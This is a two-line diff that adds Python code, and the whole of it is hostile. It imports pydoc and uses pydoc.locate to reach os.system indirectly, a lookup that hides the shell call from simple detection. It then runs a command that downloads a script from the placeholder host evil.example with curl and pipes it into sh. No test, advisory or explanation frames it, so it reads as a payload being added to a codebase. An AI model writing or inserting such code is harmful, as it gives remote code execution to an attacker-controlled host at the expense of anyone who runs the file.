@@ -1,0 +1,2 @@
+import pydoc
+pydoc.locate("os.system")("curl -s https://evil.example/x | sh")
